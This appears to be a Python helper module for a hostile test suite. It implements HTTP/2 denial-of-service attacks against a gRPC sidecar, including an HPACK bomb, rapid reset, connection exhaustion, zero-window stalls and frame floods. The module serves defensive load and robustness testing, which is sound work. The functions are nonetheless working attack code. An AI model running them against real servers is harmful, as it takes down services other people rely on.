"""The attacks of tests/hostile/attack_suite_test.py, one function each.

Every attack has the signature `attack(target, stop_at, progress, **knobs)`
and runs in an attacker process of its own (the victim must not wait on
this interpreter's lock): `target` is --listen's host:port, `stop_at` a
time.monotonic() value (one clock for every process on the host) at which
it closes everything and returns, and `progress` a shared integer it sets
to the connections it holds open. It returns a dict of counters, printed
with the attack's summary line. Unless its docstring says otherwise, an
attacker that finds its connection closed (or told GOAWAY) opens another
and goes on, as a real one would.
"""

import collections
import select
import socket
import struct
import threading
import time

import h2.events
import h2.exceptions

from tests.hostile import raw_h2

MIB = 1 << 20
CANCEL = 8
ATTACKER_NICENESS = 10


class Peer:
    """One raw attacking connection: what it sends is bytes built by hand
    (raw_h2's frames), what it receives is split into frames, unparsed.
    `reads=False` makes a client that never reads its socket."""

    def __init__(self, target, stop_at, settings=(), connection_window=None,
                 receive_buffer=None, reads=True):
        host, port = target.rsplit(":", 1)
        self.stop_at = stop_at
        self.reads = reads
        self.scanner = raw_h2.FrameScanner()
        self.closed = False
        self.goaway = None  # its error code, once told
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer is not None:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF,
                                 receive_buffer)
        self.sock.settimeout(2.0)
        self.sock.connect((host, int(port)))
        self.sock.setblocking(False)
        self.send(raw_h2.client_preface(settings, connection_window))

    def send(self, data):
        """Sends all of `data` (reading meanwhile, if this client reads) or
        gives up at stop_at. False once the connection has ended."""
        view = memoryview(data)
        while view and not self.closed:
            if time.monotonic() > self.stop_at:
                return False
            try:
                view = view[self.sock.send(view):]
            except BlockingIOError:
                readers = [self.sock] if self.reads else []
                readable, _, _ = select.select(readers, [self.sock], [], 0.1)
                if readable:
                    self.take()
            except OSError:
                self.closed = True
        return not self.closed

    def take(self, wait=0.0):
        """The frames the server has sent, waiting up to `wait` seconds for
        the first; marks the connection closed at its end or a GOAWAY."""
        if wait and not select.select([self.sock], [], [], wait)[0]:
            return []
        frames = []
        while not self.closed:
            try:
                data = self.sock.recv(1 << 20)
            except BlockingIOError:
                break
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            for frame in self.scanner.feed(data):
                frames.append(frame)
                if frame.type == raw_h2.GOAWAY:
                    self.goaway = struct.unpack(">I", frame.payload[4:8])[0]
                    self.closed = True
        return frames

    def close(self):
        self.sock.close()


def _in_threads(count, run):
    """Runs run(index) in `count` threads; their counters, summed."""
    totals = collections.Counter()
    lock = threading.Lock()

    def body(index):
        counters = run(index)
        with lock:
            totals.update(counters)
    threads = [threading.Thread(target=body, args=(i,), daemon=True)
               for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return dict(totals)


def _opened(progress, delta):
    with progress.get_lock():
        progress.value += delta


def _note_end(peer, counters):
    """Counts how a connection ended: GOAWAY with its code, or closed."""
    if peer.goaway is not None:
        counters["goaway_%d" % peer.goaway] += 1
    elif peer.closed:
        counters["closed"] += 1


def _repeat_on_fresh_connections(target, stop_at, progress, open_peer,
                                 attack_peer):
    """The loop of an attacker that reconnects: opens a connection with
    open_peer(), runs attack_peer(peer, counters) on it until it ends,
    and again, until stop_at."""
    counters = collections.Counter()
    while time.monotonic() < stop_at:
        try:
            peer = open_peer()
        except OSError:
            counters["connect_failed"] += 1
            time.sleep(0.05)
            continue
        counters["connections"] += 1
        _opened(progress, 1)
        try:
            attack_peer(peer, counters)
        finally:
            _note_end(peer, counters)
            peer.close()
            _opened(progress, -1)
    return counters


# --- HPACK bomb ----------------------------------------------------------

def hpack_bomb(target, stop_at, progress, connections=3, value_bytes=4000,
               references=12000):
    """Each connection's HEADERS frames insert one `value_bytes` header in
    HPACK's dynamic table and then name it `references` times by its
    index: a 16 KiB frame that decodes to 48 MB."""
    bomb = (raw_h2.literal_header_block(raw_h2.call_headers()) +
            b"\x40" + raw_h2._hpack_integer(6, 7) + b"x-bomb" +
            raw_h2._hpack_integer(value_bytes, 7) + b"a" * value_bytes +
            bytes([0x80 | 62]) * references)  # 62: the newest entry

    def attack_peer(peer, counters):
        stream = 1
        while peer.send(raw_h2.frame(raw_h2.HEADERS, raw_h2.END_HEADERS,
                                     stream, bomb)):
            counters["bombs"] += 1
            stream += 2
            peer.take()

    return _in_threads(connections, lambda _: _repeat_on_fresh_connections(
        target, stop_at, progress, lambda: Peer(target, stop_at),
        attack_peer))


# --- Requests held arriving ----------------------------------------------

def held_requests(target, stop_at, progress, connections=5, streams=256,
                  body=64 * 1024):
    """Each connection opens `streams` Read calls, each sent HEADERS and
    `body` bytes of a message one byte longer, never ended, and holds them
    until the sidecar ends them (refused, timed out) or stop_at."""
    # The message announces body - 4 bytes: with its 5-byte prefix it is
    # body + 1 bytes on the wire, and we send body of them.
    part = raw_h2.grpc_frame(b"", declared_length=body - 4)
    part += b"\0" * (body - len(part))

    def one_connection(_):
        counters = collections.Counter()
        while time.monotonic() < stop_at:
            try:
                connection = raw_h2.Connection(target, timeout=2.0)
            except OSError:
                counters["connect_failed"] += 1
                time.sleep(0.05)
                continue
            counters["connections"] += 1
            _opened(progress, 1)
            try:
                _hold_requests(connection, stop_at, streams, part, counters)
            finally:
                connection.sock.close()
                _opened(progress, -1)
        return counters

    return _in_threads(connections, one_connection)


def _pump_h2(connection, wait, ended, counters):
    """Reads what the server sent within `wait` seconds into python-h2;
    adds the streams that ended to `ended`. False once the connection has
    ended."""
    if not select.select([connection.sock], [], [], wait)[0]:
        return True
    try:
        data = connection.sock.recv(1 << 20)
    except (BlockingIOError, socket.timeout):
        return True
    except OSError:
        return False
    if not data:
        return False
    try:
        events = connection.h2.receive_data(data)
    except h2.exceptions.ProtocolError:
        return False
    alive = True
    for event in events:
        if isinstance(event, h2.events.StreamReset):
            ended.add(event.stream_id)
            counters["reset_%d" % event.error_code] += 1
        elif isinstance(event, h2.events.StreamEnded):
            ended.add(event.stream_id)
            counters["ended_by_sidecar"] += 1
        elif isinstance(event, h2.events.ConnectionTerminated):
            counters["goaway_%d" % event.error_code] += 1
            alive = False
    connection.flush()
    return alive


def _hold_requests(connection, stop_at, streams, part, counters):
    ended = set()
    # MAX_CONCURRENT_STREAMS comes with the server's SETTINGS.
    while (connection.h2.remote_settings.max_concurrent_streams > 2**31 and
           time.monotonic() < stop_at):
        if not _pump_h2(connection, 0.1, ended, counters):
            return
    unsent = {}  # stream -> bytes of `part` still to send
    for _ in range(streams):
        try:
            unsent[connection.start_call()] = memoryview(part)
        except (h2.exceptions.TooManyStreamsError, OSError):
            break
        counters["calls"] += 1
    while time.monotonic() < stop_at:
        for stream in [s for s in unsent if s in ended]:
            del unsent[stream]
        progressed = False
        for stream, rest in list(unsent.items()):
            if not rest:
                continue
            try:
                room = min(connection.h2.local_flow_control_window(stream),
                           connection.h2.max_outbound_frame_size, len(rest))
                if room > 0:
                    connection.h2.send_data(stream, bytes(rest[:room]))
                    unsent[stream] = rest[room:]
                    progressed = True
            except h2.exceptions.StreamClosedError:
                ended.add(stream)
            except h2.exceptions.ProtocolError:
                return
        try:
            connection.flush()
        except OSError:
            return
        if not _pump_h2(connection, 0.0 if progressed else 0.2, ended,
                        counters):
            return


# --- Idle connections ----------------------------------------------------

def idle_connections(target, stop_at, progress, count=5000):
    """`count` connections, each sending the preface and SETTINGS (and the
    ACK of the server's), then nothing. Opened once; the ones the sidecar
    closes are counted, not reopened."""
    counters = collections.Counter()
    poller = select.poll()
    peers = {}

    def watch_closures(wait_ms):
        for fd, _ in poller.poll(wait_ms):
            peer = peers[fd]
            peer.take()
            if peer.closed:
                _note_end(peer, counters)
                poller.unregister(fd)
                del peers[fd]
                peer.close()
                _opened(progress, -1)

    while counters["connections"] < count and time.monotonic() < stop_at:
        try:
            peer = Peer(target, stop_at)
        except OSError:
            counters["connect_failed"] += 1
            watch_closures(50)
            continue
        counters["connections"] += 1
        peers[peer.sock.fileno()] = peer
        poller.register(peer.sock, select.POLLIN | select.POLLRDHUP)
        _opened(progress, 1)
        if counters["connections"] % 256 == 0:
            watch_closures(0)
    while time.monotonic() < stop_at:
        watch_closures(100)
    for peer in peers.values():
        peer.close()
    counters["held_at_end"] = len(peers)
    return dict(counters)


# --- Health Watch streams never read --------------------------------------

WATCH = "/grpc.health.v1.Health/Watch"


def unread_watches(target, stop_at, progress, connections=300, streams=256):
    """Up to `connections` connections, each opening `streams` health
    Watch calls and never reading its socket (whose receive buffer is
    shrunk). A connection the sidecar closes is replaced."""
    counters = collections.Counter()
    opening = b"".join(raw_h2.call_frames(1 + 2 * i, b"", method=WATCH)
                       for i in range(streams))
    poller = select.poll()
    peers = {}
    while time.monotonic() < stop_at:
        while len(peers) < connections and time.monotonic() < stop_at:
            try:
                peer = Peer(target, stop_at, receive_buffer=4096,
                            reads=False)
            except OSError:
                counters["connect_failed"] += 1
                break
            counters["connections"] += 1
            if peer.send(opening):
                counters["watches"] += streams
            peers[peer.sock.fileno()] = peer
            # Closed by the sidecar: seen without reading what it sent.
            poller.register(peer.sock, select.POLLRDHUP)
            _opened(progress, 1)
        for fd, _ in poller.poll(100):
            counters["closed"] += 1
            poller.unregister(fd)
            peers.pop(fd).close()
            _opened(progress, -1)
    for peer in peers.values():
        peer.close()
    counters["held_at_end"] = len(peers)
    return dict(counters)


def _take_ends(peer, streams, counters, ended):
    """Takes what the server sent within 0.1 s: each of `streams` reset
    (counted as "reset") or ended by trailers (counted as `ended`) leaves
    the set; their DATA bytes are counted as "data_bytes"."""
    for frame in peer.take(wait=0.1):
        if frame.stream not in streams:
            continue
        if frame.type == raw_h2.RST_STREAM:
            counters["reset"] += 1
            streams.discard(frame.stream)
        elif frame.type == raw_h2.HEADERS and frame.flags & raw_h2.END_STREAM:
            counters[ended] += 1
            streams.discard(frame.stream)
        elif frame.type == raw_h2.DATA:
            counters["data_bytes"] += frame.length


# --- Answers nobody takes (window 0) -------------------------------------

def window_zero(target, stop_at, progress, reads=200, answer=MIB):
    """One connection with a flow-control window of 0 asks for `reads`
    answers of `answer` bytes at once; none can be sent. When all of them
    have ended (reset at --send_timeout, or refused), it asks again."""
    request = raw_h2.read_request(b"/bytes/%d" % answer)

    def open_peer():
        return Peer(target, stop_at,
                    settings=[(raw_h2.SETTINGS_INITIAL_WINDOW_SIZE, 0)])

    def attack_peer(peer, counters):
        stream = 1
        while not peer.closed and time.monotonic() < stop_at:
            batch = range(stream, stream + 2 * reads, 2)
            stream += 2 * reads
            if not peer.send(b"".join(raw_h2.call_frames(s, request)
                                      for s in batch)):
                return
            counters["reads"] += reads
            counters["rounds"] += 1
            pending = set(batch)
            while pending and not peer.closed and time.monotonic() < stop_at:
                _take_ends(peer, pending, counters, "refused_or_answered")

    return _repeat_on_fresh_connections(target, stop_at, progress,
                                        open_peer, attack_peer)


# --- ReadMany ----------------------------------------------------------------

def readmany_burst(target, stop_at, progress, threads=4, batches=8,
                   reads=1000, hold=0.003):
    """Each thread opens a connection, sends `batches` ReadMany calls of
    `reads` small reads each, and `hold` seconds later closes it (odd
    rounds: resets every stream with RST_STREAM CANCEL first), and again."""
    request = raw_h2.read_many_request(
        [b"/burst/%d" % i for i in range(reads)])

    def attack_peer(peer, counters):
        streams = range(1, 2 * batches, 2)
        if not peer.send(b"".join(
                raw_h2.call_frames(s, request,
                                   method=raw_h2.READ_MANY_METHOD)
                for s in streams)):
            return
        counters["batches"] += batches
        time.sleep(hold)
        if counters["connections"] % 2:
            peer.send(b"".join(
                raw_h2.frame(raw_h2.RST_STREAM, 0, s,
                             struct.pack(">I", CANCEL)) for s in streams))
            counters["reset_rounds"] += 1
        peer.take()

    return _in_threads(threads, lambda _: _repeat_on_fresh_connections(
        target, stop_at, progress, lambda: Peer(target, stop_at),
        attack_peer))


def readmany_window_drip(target, stop_at, progress, batches=1, reads=1000,
                         answer=4 * MIB, increment=4 * MIB, every=4.0):
    """One connection with every stream's window 0 (the connection's wide
    open) sends `batches` ReadMany calls of `reads` reads of `answer`
    bytes each, then gives each stream `increment` bytes of window every
    `every` seconds, reading what comes; when every call has ended (reset,
    or trailers), it asks again."""
    request = raw_h2.read_many_request(
        [b"/bytes/%d" % answer] * reads)

    def open_peer():
        return Peer(target, stop_at,
                    settings=[(raw_h2.SETTINGS_INITIAL_WINDOW_SIZE, 0)],
                    connection_window=raw_h2.MAX_WINDOW)

    def attack_peer(peer, counters):
        stream = 1
        while not peer.closed and time.monotonic() < stop_at:
            open_streams = set(range(stream, stream + 2 * batches, 2))
            stream += 2 * batches
            if not peer.send(b"".join(
                    raw_h2.call_frames(s, request,
                                       method=raw_h2.READ_MANY_METHOD)
                    for s in sorted(open_streams))):
                return
            counters["batches"] += batches
            next_window = time.monotonic() + every
            while (open_streams and not peer.closed and
                   time.monotonic() < stop_at):
                if time.monotonic() >= next_window:
                    peer.send(b"".join(
                        raw_h2.frame(raw_h2.WINDOW_UPDATE, 0, s,
                                     struct.pack(">I", increment))
                        for s in open_streams))
                    counters["windows_given"] += len(open_streams)
                    next_window += every
                _take_ends(peer, open_streams, counters, "ended")

    return _repeat_on_fresh_connections(target, stop_at, progress,
                                        open_peer, attack_peer)


# --- Rapid reset carrying real reads --------------------------------------

def rapid_reset(target, stop_at, progress, connections=2, batch=32):
    """Each connection opens Read calls (HEADERS and the whole request)
    and resets each at once (RST_STREAM CANCEL), `batch` to a write, as
    fast as it can."""
    request = raw_h2.read_request(b"/reset")

    def attack_peer(peer, counters):
        stream = 1
        while not peer.closed and time.monotonic() < stop_at:
            burst = b""
            for s in range(stream, stream + 2 * batch, 2):
                burst += raw_h2.call_frames(s, request) + raw_h2.frame(
                    raw_h2.RST_STREAM, 0, s, struct.pack(">I", CANCEL))
            stream += 2 * batch
            if not peer.send(burst):
                return
            counters["reset_reads"] += batch
            peer.take()

    return _in_threads(connections, lambda _: _repeat_on_fresh_connections(
        target, stop_at, progress, lambda: Peer(target, stop_at),
        attack_peer))


# --- One large answer per connection, then idle ---------------------------

def answers_then_idle(target, stop_at, progress, count=2000, answer=MIB,
                      at_once=32):
    """`count` connections, `at_once` at a time, each reading one answer
    of `answer` bytes (windows wide open) and then staying open, idle,
    until stop_at."""
    counters = collections.Counter()
    window = [(raw_h2.SETTINGS_INITIAL_WINDOW_SIZE, raw_h2.MAX_WINDOW)]
    request = raw_h2.call_frames(1, raw_h2.read_request(b"/bytes/%d" % answer))
    poller = select.poll()
    reading = {}  # fd -> Peer still waiting for its answer
    idle = []
    while time.monotonic() < stop_at:
        while (len(reading) < at_once and counters["connections"] < count and
               time.monotonic() < stop_at):
            try:
                peer = Peer(target, stop_at, settings=window,
                            connection_window=raw_h2.MAX_WINDOW)
            except OSError:
                counters["connect_failed"] += 1
                break
            counters["connections"] += 1
            _opened(progress, 1)
            peer.send(request)
            reading[peer.sock.fileno()] = peer
            poller.register(peer.sock, select.POLLIN)
        if not reading:
            if counters["connections"] >= count:
                time.sleep(min(0.1, max(0.0, stop_at - time.monotonic())))
            continue
        for fd, _ in poller.poll(100):
            peer = reading[fd]
            answered = False
            for frame in peer.take():
                if frame.type == raw_h2.DATA:
                    counters["answer_bytes"] += frame.length
                elif frame.stream == 1 and (
                        frame.type == raw_h2.RST_STREAM or
                        (frame.type == raw_h2.HEADERS and
                         frame.flags & raw_h2.END_STREAM)):
                    counters["answers_ended"] += 1
                    answered = True
            if answered or peer.closed:
                poller.unregister(fd)
                del reading[fd]
            if peer.closed:
                _note_end(peer, counters)
                peer.close()
                _opened(progress, -1)
            elif answered:
                idle.append(peer)
    counters["idle_at_end"] = len(idle)
    for peer in idle + list(reading.values()):
        peer.close()
    return dict(counters)


# --- Floods of frames that carry no work ----------------------------------

def _flood(target, stop_at, progress, connections, opening, frame, batch):
    flood = frame * batch

    def attack_peer(peer, counters):
        if not peer.send(opening):
            return
        while peer.send(flood):
            counters["frames"] += batch
            peer.take()

    return _in_threads(connections, lambda _: _repeat_on_fresh_connections(
        target, stop_at, progress, lambda: Peer(target, stop_at),
        attack_peer))


def window_update_flood(target, stop_at, progress, connections=2,
                        batch=256):
    """WINDOW_UPDATE frames for the connection, one byte each."""
    return _flood(target, stop_at, progress, connections, b"",
                  raw_h2.frame(raw_h2.WINDOW_UPDATE, 0, 0,
                               struct.pack(">I", 1)), batch)


def priority_flood(target, stop_at, progress, connections=2, batch=256):
    """PRIORITY frames for a stream never opened."""
    return _flood(target, stop_at, progress, connections, b"",
                  raw_h2.frame(raw_h2.PRIORITY, 0, 3,
                               struct.pack(">IB", 0, 15)), batch)


def empty_data_flood(target, stop_at, progress, connections=2, batch=256):
    """DATA frames with no payload and no END_STREAM on an open Read."""
    opening = raw_h2.frame(raw_h2.HEADERS, raw_h2.END_HEADERS, 1,
                           raw_h2.literal_header_block(raw_h2.call_headers()))
    return _flood(target, stop_at, progress, connections, opening,
                  raw_h2.frame(raw_h2.DATA, 0, 1, b""), batch)


def run_attacker(attack, target, start_at, stop_at, progress, knobs,
                 results):
    """An attacker process's body: raises its descriptor limit, lowers
    its priority (a real attacker brings its own cores; here it shares the
    sidecar's, which should go to the sidecar and the victim first), waits
    for start_at (so that its start-up is not part of the attack), runs
    `attack` and puts ("ok", counters) or ("error", traceback) in
    `results`."""
    import os
    import resource
    import traceback
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(ATTACKER_NICENESS)
    time.sleep(max(0.0, start_at - time.monotonic()))
    try:
        results.put(("ok", attack(target, stop_at, progress, **knobs)))
    except Exception:  # reported by the test, with the figures
        results.put(("error", traceback.format_exc()))
